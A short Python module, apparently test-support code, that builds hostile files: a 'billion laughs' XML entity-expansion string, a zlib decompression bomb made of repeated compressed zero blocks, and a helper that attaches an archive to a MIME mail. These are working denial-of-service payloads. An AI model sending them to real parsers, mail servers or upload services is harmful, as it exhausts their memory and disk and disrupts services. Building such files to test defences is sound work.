"""What a hostile file is, and what several kinds of them are made of: much of nothing in little, words without end, a mail around a file."""

from __future__ import annotations

import struct
import zlib
from base64 import encodebytes
from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

MIB: Final = 1 << 20
LAUGHS: Final = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "haha">'
    + "".join(f'<!ENTITY {after} "{f"&{before};" * 10}">' for before, after in zip("abcdefghi", "bcdefghij", strict=True))
    + "]>"
)
"""Ten to the ninth power of one word, to whoever resolves entities."""


@dataclass(frozen=True, slots=True)
class Bomb:
    """One hostile file, and the name that it is sent under."""

    name: str
    make: Callable[[], bytes]


def zeros(mebibytes: int) -> bytes:
    """Return `mebibytes` of zeros as zlib packs them, some thousandth of that."""
    deflate = zlib.compressobj(9)
    head = deflate.compress(b"") + deflate.flush(zlib.Z_FULL_FLUSH)
    block = deflate.compress(bytes(MIB)) + deflate.flush(zlib.Z_FULL_FLUSH)
    return head + block * mebibytes + b"\x01\x00\x00\xff\xff" + struct.pack(">I", (mebibytes * MIB % 65521) << 16 | 1)


def mail(archive: bytes) -> bytes:
    """Return a mail to which an archive is attached."""
    head = b"From: a@example.org\nTo: b@example.org\nSubject: c\nMIME-Version: 1.0\n"
    part = b"--b\nContent-Type: application/zip; name=a.zip\nContent-Transfer-Encoding: base64\n\n"
    return head + b'Content-Type: multipart/mixed; boundary="b"\n\n' + part + encodebytes(archive) + b"--b--\n"
